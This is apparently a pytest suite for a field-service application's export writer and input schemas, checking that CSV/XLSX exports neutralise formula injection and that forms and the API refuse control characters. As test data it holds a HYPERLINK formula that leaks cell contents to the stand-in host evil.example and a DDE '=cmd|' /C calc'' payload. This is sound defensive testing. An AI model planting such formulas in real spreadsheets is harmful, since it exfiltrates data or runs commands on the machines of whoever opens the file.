"""Exports (issue 23, item 5): one writer for XLSX and CSV that strips control characters and writes
formula-like text as text; and control characters refused at input (every form and API schema)."""
import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from fieldsvc import exports
from fieldsvc.hse.services import registers

EN = {"Accept-Language": "en"}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
PACKAGE = Path(__file__).resolve().parents[2] / "fieldsvc"


def _hazard(**changes):
    payload = {"activity": "Household leak response", "description": "Gas ignites during the response",
               "accident_type": "other_explosion", "l": "3", "e": "3", "c": "40"}
    return {**payload, **changes}


def _sheet(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(response.data)).active


# --- the probe's reproductions -------------------------------------------------------------------------

def test_a_control_character_in_a_hazard_no_longer_breaks_the_register(db, staff, login):
    """Stored before input refused them (or by an import): one \\x0b made the register a 500 for everyone."""
    registers.create_hazard(staff["safety_officer"], _hazard(description="Leak\x0b at the \x1briser\nsecond line"))
    db.session.commit()
    sheet = _sheet(login("safety_officer").get("/hse/export/hazards.xlsx"))
    texts = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "Leak at the riser\nsecond line" in texts  # stripped; the line break kept


def test_a_formula_in_a_hazard_is_exported_as_text(db, staff, login):
    registers.create_hazard(staff["safety_officer"], _hazard(activity=HYPERLINK))
    db.session.commit()
    sheet = _sheet(login("safety_officer").get("/hse/export/hazards.xlsx"))
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK)
    assert cell.data_type == "s" and cell.quotePrefix  # a text cell with Excel's leading apostrophe
    factor = sheet.cell(row=cell.row, column=8)  # L stays a number
    assert factor.data_type == "n" and factor.value == 3


@pytest.mark.parametrize("register", ["hazards", "aspects", "nonconformities", "objectives", "training"])
def test_every_hse_register_exports(db, staff, login, register):
    # Stored through the service, past the input check (data from before it): BEL and ESC, which both databases
    # hold (PostgreSQL refuses NUL in text at all).
    registers.create_hazard(staff["safety_officer"], _hazard(description="\x07\x1b=1+1"))
    db.session.commit()
    assert _sheet(login("safety_officer").get(f"/hse/export/{register}.xlsx")).max_row >= 1


# --- the writer ---------------------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+31 20", "'+31 20"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\r=cmd", "'=cmd"),  # CR is a control character: stripped, and what is left is still neutralised
    ("a\x00b\x1fc\x7fd\x85e", "abcde"), ("line\nnext\tcol", "line\nnext\tcol"), ("表计 =1", "表计 =1"),
    (-2, -2), (Decimal("-1.5"), Decimal("-1.5")), (0, 0), (None, ""), (True, 1), (date(2026, 11, 3), "2026-11-03"),
])
def test_csv_value(value, expected):
    assert exports.csv_value(value) == expected


def test_csv_text_is_excel_friendly():
    text = exports.csv_text(["who", "n"], [["=HYPERLINK(1)", -3], ['say "hi"', Decimal("2.50")]])
    assert text.startswith("\ufeff") and "\r\n" in text
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [["who", "n"], ["'=HYPERLINK(1)", "-3"], ['say "hi"', "2.50"]]


def test_csv_rows_comes_in_chunks():
    pieces = list(exports.csv_rows(["n"], ([i] for i in range(1200)), chunk=500))
    assert len(pieces) == 3 and "".join(pieces).count("\r\n") == 1201


def test_xlsx_keeps_numbers_dates_and_neutralises_text(app):
    book = exports.Xlsx("Sheet: [one]/two?")
    book.row(["=A1", "+1", "-x", "@y", "plain", 3, Decimal("2.5"), date(2026, 1, 2), None, "\x01bell"])
    sheet = load_workbook(io.BytesIO(book.bytes())).active
    assert sheet.title == "Sheet   one  two "
    cells = list(sheet[1])
    assert [c.value for c in cells[:5]] == ["=A1", "+1", "-x", "@y", "plain"]
    assert [c.data_type for c in cells[:5]] == ["s"] * 5
    assert [bool(c.quotePrefix) for c in cells[:5]] == [True, True, True, True, False]
    assert cells[5].value == 3 and cells[6].value == 2.5 and cells[7].value.date() == date(2026, 1, 2)
    assert cells[8].value is None and cells[9].value == "bell"


def test_every_export_goes_through_the_one_writer():
    """No module but fieldsvc/exports.py writes CSV or XLSX itself."""
    writers = re.compile(r"\bopenpyxl\b|csv\.(writer|DictWriter)\b")
    offenders = [str(p.relative_to(PACKAGE)) for p in PACKAGE.rglob("*.py")
                 if p.name != "exports.py" or p.parent != PACKAGE
                 if writers.search(p.read_text(encoding="utf-8"))]
    assert offenders == []


# --- readings.csv (the reader's reason) -------------------------------------------------------------

def test_readings_csv_neutralises_a_readers_reason(db, staff, login):
    from fieldsvc.readings.services import recording
    from tests.readings.conftest import World

    world = World(db, staff)
    _customer, meter = world.customer()
    reading = recording.record_reading(world.chief, meter.id, {"value": Decimal(42)})
    reading.reason = "=cmd|' /C calc'!A0\x07"
    db.session.commit()
    response = login("station_chief").get(f"/readings/export/{reading.cycle}/readings.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))
    assert rows[1][rows[0].index("reason")] == "'=cmd|' /C calc'!A0"
    assert rows[1][rows[0].index("value")] == "42.000"  # numbers stay numbers


# --- input: control characters refused everywhere, through BaseSchema ----------------------------------

def test_a_form_refuses_control_characters_naming_the_field(staff, login):
    client = login("safety_officer")
    response = client.post("/hse/hazards/new", headers=EN, data={
        **_hazard(), "activity": "Leak\x07 response", "description": "fine"})
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert "Control characters are not allowed here (only line breaks and tabs)." in html


def test_the_api_refuses_control_characters_naming_the_field(staff, api):
    client, headers = api("station_chief")
    response = client.post("/api/v1/customers", headers={**headers, **EN}, json={
        "account_no": "61009999", "name": "王\x00小明", "category": "residential", "gas": "NG",
        "district": "D01", "address": "幸福小区 1 号"})
    assert response.status_code == 422
    assert response.json["errors"]["name"] == ["Control characters are not allowed here (only line breaks and tabs)."]


@pytest.mark.parametrize(("raw", "loaded"), [
    ("two\r\nlines", "two\nlines"), ("tab\there", "tab\there"), ("  padded  ", "padded"), ("中文", "中文"),
])
def test_base_schema_keeps_line_breaks_and_tabs(app, raw, loaded):
    from marshmallow import fields

    from fieldsvc.schemas import BaseSchema

    class Note(BaseSchema):
        text = fields.String()
        tags = fields.List(fields.String())

    with app.test_request_context(headers=EN):
        assert Note().load({"text": raw, "tags": [raw]}) == {"text": loaded, "tags": [raw.replace("\r\n", "\n")]}


@pytest.mark.parametrize("bad", ["\x00", "\x08", "\x0b", "\x1b", "\x7f", "\x9b", "\ud800", "\uffff"])
def test_base_schema_refuses_each_control_character(app, bad):
    from marshmallow import ValidationError, fields

    from fieldsvc.schemas import BaseSchema

    class Note(BaseSchema):
        text = fields.String()
        nested = fields.Dict()

    with app.test_request_context(headers=EN):
        with pytest.raises(ValidationError) as caught:
            Note().load({"text": f"a{bad}b"})
        assert list(caught.value.messages) == ["text"]
        with pytest.raises(ValidationError) as caught:
            Note().load({"nested": {"deep": [f"a{bad}b"]}})
        assert list(caught.value.messages) == ["nested"]
